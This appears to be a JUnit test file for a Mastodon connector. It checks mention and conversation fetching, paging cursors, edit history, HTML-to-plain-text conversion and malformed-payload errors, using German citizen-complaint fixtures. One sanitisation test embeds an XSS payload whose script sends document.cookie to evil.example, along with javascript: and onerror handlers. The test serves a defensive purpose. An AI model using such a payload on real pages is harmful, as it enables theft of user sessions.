package org.switchboard.connect.mastodon;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.switchboard.connect.mastodon.MastodonTestBed.CONVERSATIONS;
import static org.switchboard.connect.mastodon.MastodonTestBed.NOTIFICATIONS;
import static org.switchboard.connect.mastodon.MastodonTestBed.STATUSES;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import mockwebserver3.RecordedRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.switchboard.domain.Attachment;
import org.switchboard.domain.MessageEdit;
import org.switchboard.domain.MessageKind;
import org.switchboard.domain.sync.Author;
import org.switchboard.domain.sync.ConnectorException;
import org.switchboard.domain.sync.ConnectorException.Kind;
import org.switchboard.domain.sync.FetchedPage;
import org.switchboard.domain.sync.InboundItem;

/** Reading mentions and conversations: the documented payloads in, normalised items and cursors out. */
class MastodonConnectorFetchTest {
    private static final String LAPTOP = "114612364247093395";

    private final MastodonTestBed bed = new MastodonTestBed();

    @AfterEach
    void stopServer() {
        bed.close();
    }

    private FetchedPage firstSync() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_page1"), Fixtures.response("inbound_page2"));
        bed.routes.always(STATUSES + "/" + LAPTOP + "/history", Fixtures.response("status_history"));
        return bed.connector().fetch("mentions", null);
    }

    private static InboundItem item(FetchedPage page, String externalId) {
        return page.items().stream().filter(i -> i.externalId().equals(externalId)).findFirst().orElseThrow();
    }

    @Test
    void aFirstSyncReadsTheNewestPageAndOneOlderPageAndStandsAtTheNewestMention() {
        FetchedPage page = firstSync();

        assertThat(page.items()).extracting(InboundItem::externalId).containsExactly("114612638318651691",
                "114612555153451041", "114612471529480079", LAPTOP, "114609694965770237", "114608713826365127");
        assertThat(page.nextCursor()).isEqualTo("4711240");
        assertThat(page.hasMore()).isFalse();
        List<RecordedRequest> asked = bed.routes.requests(NOTIFICATIONS);
        assertThat(asked).hasSize(2);
        assertThat(asked.get(0).getUrl().queryParameter("types[]")).isEqualTo("mention");
        assertThat(asked.get(0).getUrl().queryParameter("limit")).isEqualTo("40");
        assertThat(asked.get(0).getUrl().queryParameterNames()).doesNotContain("min_id", "max_id");
        assertThat(asked.get(1).getUrl().queryParameter("max_id")).isEqualTo("4711233");
        assertThat(asked.get(0).getHeaders().get("Authorization")).isEqualTo("Bearer " + MastodonTestBed.TOKEN);
    }

    @Test
    void aFirstSyncDoesNotBackfillBeyondTwoPages() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_page1"),
                Fixtures.withHeaders("inbound_page1", Fixtures.text("inbound_page2.json")),
                Fixtures.response("inbound_empty"));
        bed.routes.always(STATUSES + "/" + LAPTOP + "/history", Fixtures.response("status_history"));

        FetchedPage page = bed.connector().fetch("mentions", null);

        assertThat(bed.routes.requests(NOTIFICATIONS)).hasSize(2);
        assertThat(page.items()).hasSize(6);
        assertThat(page.nextCursor()).isEqualTo("4711240");
    }

    @Test
    void statusHtmlBecomesExactlyThePlainTextAPersonReads() {
        FetchedPage page = firstSync();

        assertThat(item(page, "114612638318651691").text()).isEqualTo("@stadt Die Parkbank am Rosengarten (Stadtpark, "
                + "Eingang Lindenstraße) ist kaputt – zwei Latten fehlen, Nägel stehen raus. Foto anbei. Bitte "
                + "reparieren, bevor sich ein Kind verletzt!");
        assertThat(item(page, "114612555153451041").text()).isEqualTo("@stadt Danke für die schnelle Antwort am "
                + "Freitag! Die riesige Pfütze auf dem Gehweg vor Bahnhofstraße 12 steht aber immer noch.\n"
                + "Mit dem Kinderwagen muss man über die Fahrbahn ausweichen. 😕");
        assertThat(item(page, "114612471529480079").text()).isEqualTo("CW: ÖPNV-Frust\n@stadt RE 7 nach Köln schon "
                + "wieder 25 Min. Verspätung 😤 & keine Durchsage an Gleis 3. Wer ist zuständig – Stadt oder Bahn? "
                + "<Ironie>Top Service</Ironie> #Pendeln");
        assertThat(item(page, LAPTOP).text()).isEqualTo("@stadt Hallo, ich habe heute früh meinen Laptop (graues "
                + "ThinkPad, Aufkleber „Grüße aus Łódź“) im Bus Linie 5 Richtung Hauptbahnhof liegen lassen. Gibt es "
                + "ein Fundbüro, bei dem ich mich melden kann? 🧑\u200d💻🙏");
    }

    @Test
    void aMentionCarriesAuthorTimeAddressAndWhatAReplyNeeds() {
        InboundItem bench = item(firstSync(), "114612638318651691");

        assertThat(bench.kind()).isEqualTo(MessageKind.MENTION);
        assertThat(bench.fromOrganisation()).isFalse();
        assertThat(bench.author()).isEqualTo(new Author("juergen_m", "Jürgen Müller",
                "https://social.beispielstadt.example/@juergen_m"));
        assertThat(bench.createdAt()).isEqualTo(Instant.parse("2025-06-02T07:41:12.418Z"));
        assertThat(bench.editedAt()).isNull();
        assertThat(bench.url()).isEqualTo("https://social.beispielstadt.example/@juergen_m/114612638318651691");
        assertThat(bench.inReplyTo()).isNull();
        assertThat(bench.threadKey()).isEqualTo("114612638318651691");
        assertThat(bench.replyContext()).isEqualTo(Map.of("visibility", "public", "acct", "juergen_m",
                "statusId", "114612638318651691"));
    }

    @Test
    void aPhotoIsRecordedWithItsAddressAndDescriptionButNotDownloaded() {
        InboundItem bench = item(firstSync(), "114612638318651691");

        assertThat(bench.attachments()).containsExactly(new Attachment("image",
                "https://social.beispielstadt.example/system/media_attachments/files/114/612/637/original/3f9c2a81d0b7e4c5.jpeg",
                "Parkbank mit zwei fehlenden Sitzlatten, herausstehende Nägel, im Hintergrund Rosenbeete."));
        assertThat(bed.server.getRequestCount()).isEqualTo(4); // own profile, two pages, one edit history
    }

    @Test
    void aReplyInsideAThreadNamesTheStatusItAnswers() {
        InboundItem puddle = item(firstSync(), "114612555153451041");

        assertThat(puddle.inReplyTo()).isEqualTo("114596205756452834");
        assertThat(puddle.threadKey()).isEqualTo("114596205756452834");
        assertThat(puddle.author().handle()).isEqualTo("anna@norden.social.example");
    }

    @Test
    void aDirectMentionIsADirectMessageAndAnEditedOneKeepsWhatItSaidBefore() {
        InboundItem laptop = item(firstSync(), LAPTOP);

        assertThat(laptop.kind()).isEqualTo(MessageKind.DIRECT);
        assertThat(laptop.replyContext()).containsEntry("visibility", "direct");
        assertThat(laptop.editedAt()).isEqualTo(Instant.parse("2025-06-02T06:33:02.114Z"));
        assertThat(laptop.history()).containsExactly(new MessageEdit("@stadt Hallo, ich habe heute früh meinen "
                + "Laptop im Bus Linie 5 liegen lassen. Gibt es ein Fundbüro?", Instant.parse("2025-06-02T06:31:30.250Z")));
        assertThat(bed.routes.requests(STATUSES + "/" + LAPTOP + "/history")).hasSize(1);
    }

    @Test
    void anEditHistoryMastodonNoLongerShowsLeavesTheItemWithoutHistory() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_page1"), Fixtures.response("inbound_page2"));
        // no history route: the fake server answers 404 Record not found, as for a deleted status

        FetchedPage page = bed.connector().fetch("mentions", null);

        assertThat(item(page, LAPTOP).history()).isEmpty();
        assertThat(item(page, LAPTOP).editedAt()).isNotNull();
    }

    @Test
    void afterTheCursorOnlyNewerMentionsAreAskedForAndNothingIsDeliveredTwice() {
        FetchedPage first = firstSync();
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_newer"));

        FetchedPage second = bed.connector().fetch("mentions", first.nextCursor());

        RecordedRequest asked = bed.routes.requests(NOTIFICATIONS).getLast();
        assertThat(asked.getUrl().queryParameter("min_id")).isEqualTo("4711240");
        assertThat(asked.getUrl().queryParameter("types[]")).isEqualTo("mention");
        assertThat(second.items()).extracting(InboundItem::externalId)
                .containsExactly("114612760211554821", "114612701390232577")
                .doesNotContainAnyElementsOf(first.items().stream().map(InboundItem::externalId).toList());
        assertThat(second.nextCursor()).isEqualTo("4711252");
        assertThat(second.hasMore()).isFalse();
    }

    @Test
    void newerMentionsKeepLinksParagraphsAndFallBackToTheFederationAddress() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_newer"));

        FetchedPage page = bed.connector().fetch("mentions", "4711240");

        InboundItem thanks = item(page, "114612760211554821");
        assertThat(thanks.text()).isEqualTo("@stadt Danke! Vorgang BS-2025-0142 notiert.\n\n"
                + "Steht das auch im Mängelmelder? "
                + "https://www.beispielstadt.example/maengelmelder/vorgang/BS-2025-0142/status?lang=de\n"
                + "Oder soll ich beim Bürgerbüro (https://www.beispielstadt.example/buergerbuero) anrufen? "
                + "\"Gleich morgen\", hieß es.");
        assertThat(thanks.inReplyTo()).isEqualTo("114612725809173448");
        InboundItem remote = item(page, "114612701390232577");
        assertThat(remote.url()).isEqualTo("https://mastodon.example/users/oezlem/statuses/114612701390232577");
        assertThat(remote.text()).isEqualTo("@stadt Nachtrag: heute wieder 10 Min. später. #RE7");
    }

    @Test
    void anEmptyPageKeepsTheCursorAndAsksForNothingMore() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.response("inbound_empty"));

        FetchedPage page = bed.connector().fetch("mentions", "4711252");

        assertThat(page.items()).isEmpty();
        assertThat(page.nextCursor()).isEqualTo("4711252");
        assertThat(page.hasMore()).isFalse();
        assertThat(bed.routes.requests(NOTIFICATIONS).getLast().getUrl().queryParameter("min_id")).isEqualTo("4711252");
    }

    @Test
    void aFullPageAfterTheCursorAsksForMoreAndStandsAtItsNewestMention() {
        ArrayNode full = Fixtures.JSON.createArrayNode();
        JsonNode template = Fixtures.json("inbound_page1").get(0);
        for (int i = 0; i < 40; i++) {
            ObjectNode n = template.deepCopy();
            n.put("id", Integer.toString(4711300 - i));
            ((ObjectNode) n.get("status")).put("id", Long.toString(114612800000000000L - i));
            full.add(n);
        }
        bed.routes.enqueue(NOTIFICATIONS, new mockwebserver3.MockResponse.Builder().code(200)
                .addHeader("Link", "<" + bed.instance() + "api/v1/notifications?max_id=4711261>; rel=\"next\", <"
                        + bed.instance() + "api/v1/notifications?min_id=4711300>; rel=\"prev\"")
                .body(full.toString()).build());

        FetchedPage page = bed.connector().fetch("mentions", "4711260");

        assertThat(page.items()).hasSize(40);
        assertThat(page.nextCursor()).isEqualTo("4711300");
        assertThat(page.hasMore()).isTrue();
    }

    @Test
    void withoutALinkHeaderTheNewestItemOfThePageIsThePosition() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, Fixtures.text("inbound_newer.json")));

        assertThat(bed.connector().fetch("mentions", "4711240").nextCursor()).isEqualTo("4711252");
    }

    @Test
    void aStoredPositionMastodonRefusesIsReportedAsInvalid() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(422, "{\"error\":\"Validation failed: min_id is invalid\"}"));

        ConnectorException e = catchThrowableOfType(ConnectorException.class,
                () -> bed.connector().fetch("mentions", "not-a-position"));

        assertThat(e.kind()).isEqualTo(Kind.MALFORMED);
        assertThat(e.getMessage()).contains("stored sync position", "not-a-position", "mentions", "min_id is invalid");
    }

    @Test
    void aConversationBecomesADirectMessageThreadedByTheConversation() {
        bed.routes.enqueue(CONVERSATIONS, Fixtures.response("conversations_page1"));
        bed.routes.always(STATUSES + "/" + LAPTOP + "/history", Fixtures.response("status_history"));

        FetchedPage page = bed.connector().fetch("conversations", null);

        assertThat(page.items()).singleElement().satisfies(dm -> {
            assertThat(dm.externalId()).isEqualTo(LAPTOP);
            assertThat(dm.kind()).isEqualTo(MessageKind.DIRECT);
            assertThat(dm.threadKey()).isEqualTo("531207");
            assertThat(dm.author().name()).isEqualTo("Björn Weiß");
            assertThat(dm.history()).hasSize(1);
            assertThat(dm.fromOrganisation()).isFalse();
        });
        // no Link header in this sample: the position is the conversation's last status, as Mastodon pages them
        assertThat(page.nextCursor()).isEqualTo(LAPTOP);
        assertThat(page.hasMore()).isFalse();
        assertThat(bed.routes.requests(CONVERSATIONS).getFirst().getUrl().queryParameterNames())
                .doesNotContain("min_id", "max_id");
    }

    @Test
    void laterConversationsAreAskedForAfterTheLinkPosition() {
        bed.routes.enqueue(CONVERSATIONS, Fixtures.withHeaders("inbound_empty", "[]"));

        FetchedPage page = bed.connector().fetch("conversations", LAPTOP);

        assertThat(bed.routes.requests(CONVERSATIONS).getLast().getUrl().queryParameter("min_id")).isEqualTo(LAPTOP);
        assertThat(page.items()).isEmpty();
        assertThat(page.nextCursor()).isEqualTo(LAPTOP);
    }

    @Test
    void theOrganisationsOwnStatusesAreMarkedNotDropped() {
        ArrayNode conversations = (ArrayNode) Fixtures.json("conversations_page1");
        ObjectNode last = (ObjectNode) conversations.get(0).get("last_status");
        last.set("account", Fixtures.json("verify_credentials"));
        last.put("id", "114612799999999999");
        last.putNull("edited_at");
        last.put("in_reply_to_id", LAPTOP);
        bed.routes.enqueue(CONVERSATIONS, Fixtures.json(200, conversations.toString()));

        InboundItem own = bed.connector().fetch("conversations", null).items().getFirst();

        assertThat(own.fromOrganisation()).isTrue();
        assertThat(own.author().handle()).isEqualTo("stadt");
        assertThat(own.inReplyTo()).isEqualTo(LAPTOP);
    }

    @Test
    void unknownFieldsAndNotificationsOfOtherKindsAreIgnored() {
        ArrayNode page = (ArrayNode) Fixtures.json("inbound_newer");
        ObjectNode first = (ObjectNode) page.get(0);
        first.put("a_field_from_mastodon_5", "new");
        ((ObjectNode) first.get("status")).putObject("collection").put("id", "9");
        ((ObjectNode) first.get("status").get("account")).putArray("badges").add("verified");
        ObjectNode follow = page.get(1).deepCopy();
        follow.put("type", "follow");
        follow.putNull("status");
        page.add(follow);
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, page.toString()));

        FetchedPage fetched = bed.connector().fetch("mentions", "4711240");

        assertThat(fetched.items()).extracting(InboundItem::externalId)
                .containsExactly("114612760211554821", "114612701390232577");
    }

    @Test
    void hostileHtmlComesOutAsHarmlessPlainText() {
        ArrayNode page = (ArrayNode) Fixtures.json("inbound_newer");
        ((ObjectNode) page.get(0).get("status")).put("content", "<p>Bitte prüfen<script>fetch('https://evil.example/'"
                + "+document.cookie)</script> <a href=\"javascript:alert(1)\">hier klicken</a>"
                + "<img src=\"x\" onerror=\"alert(2)\"> <b onmouseover=\"alert(3)\">danke</b></p>");
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, page.toString()));

        InboundItem item = bed.connector().fetch("mentions", "4711240").items().getFirst();

        assertThat(item.text()).isEqualTo("Bitte prüfen hier klicken danke");
    }

    @Test
    void aMegabyteLongStatusIsRead() {
        ArrayNode page = (ArrayNode) Fixtures.json("inbound_newer");
        String sentence = "Die Laterne flackert &amp; summt, <br>seit Tagen schon. ";
        ((ObjectNode) page.get(0).get("status")).put("content", "<p>" + sentence.repeat(1_048_576 / sentence.length() + 1)
                + "</p>");
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, page.toString()));

        InboundItem item = bed.connector().fetch("mentions", "4711240").items().getFirst();

        assertThat(item.text().substring(0, 60)).isEqualTo("Die Laterne flackert & summt,\nseit Tagen schon. Die Laterne ");
        assertThat(item.text().length()).isGreaterThan(850_000); // "&amp;" and "<br>" got shorter
        assertThat(item.text().contains("&amp;")).isFalse();
    }

    @Test
    void aMentionWithoutAuthorFailsThePageInsteadOfVanishing() {
        ArrayNode page = (ArrayNode) Fixtures.json("inbound_newer");
        ((ObjectNode) page.get(1).get("status")).remove("account");
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, page.toString()));

        ConnectorException e = catchThrowableOfType(ConnectorException.class,
                () -> bed.connector().fetch("mentions", "4711240"));

        assertThat(e.kind()).isEqualTo(Kind.MALFORMED);
        assertThat(e.getMessage()).contains("4711247", "no author account");
    }

    @Test
    void aMentionWithoutIdOrWithABrokenTimeFailsThePage() {
        ArrayNode noId = (ArrayNode) Fixtures.json("inbound_newer");
        ((ObjectNode) noId.get(0).get("status")).remove("id");
        ArrayNode badTime = (ArrayNode) Fixtures.json("inbound_newer");
        ((ObjectNode) badTime.get(0).get("status")).put("created_at", "gestern");
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, noId.toString()), Fixtures.json(200, badTime.toString()));

        assertThat(catchThrowableOfType(ConnectorException.class, () -> bed.connector().fetch("mentions", "4711240"))
                .kind()).isEqualTo(Kind.MALFORMED);
        assertThat(catchThrowableOfType(ConnectorException.class, () -> bed.connector().fetch("mentions", "4711240"))
                .getMessage()).contains("gestern");
    }

    @Test
    void aFieldOfTheWrongShapeIsNamedInTheFailure() {
        ArrayNode page = (ArrayNode) Fixtures.json("inbound_newer");
        ((ObjectNode) page.get(1).get("status")).put("media_attachments", "keine");
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, page.toString()));

        ConnectorException e = catchThrowableOfType(ConnectorException.class,
                () -> bed.connector().fetch("mentions", "4711240"));

        assertThat(e.kind()).isEqualTo(Kind.MALFORMED);
        assertThat(e.getMessage()).isEqualTo("Mastodon sent a page of mentions that Switchboard cannot read "
                + "(unexpected value at [1].status.media_attachments).");
    }

    @Test
    void anAnswerThatIsNotJsonOrNotAListIsMalformed() {
        bed.routes.enqueue(NOTIFICATIONS, Fixtures.json(200, "[{\"id\": \"4711252\", \"type\": \"mention\", "),
                Fixtures.json(200, "{\"notifications\": []}"), Fixtures.json(200, "[null]"));

        for (int i = 0; i < 3; i++) {
            ConnectorException e = catchThrowableOfType(ConnectorException.class,
                    () -> bed.connector().fetch("mentions", "4711240"));
            assertThat(e.kind()).isEqualTo(Kind.MALFORMED);
        }
    }
}
